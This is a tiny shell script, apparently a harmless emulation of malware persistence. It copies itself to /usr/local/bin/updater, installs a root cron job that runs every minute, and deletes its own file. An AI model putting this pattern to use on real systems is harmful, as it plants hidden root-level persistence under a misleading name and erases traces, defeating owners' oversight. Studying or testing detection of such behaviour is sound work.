#!/bin/sh
# Harmless, and behaves like what wants to come back: an entry for cron, a program, its own file removed.
cp "$0" /usr/local/bin/updater
mkdir -p /etc/cron.d
echo '* * * * * root /usr/local/bin/updater' > /etc/cron.d/updater
rm "$0"
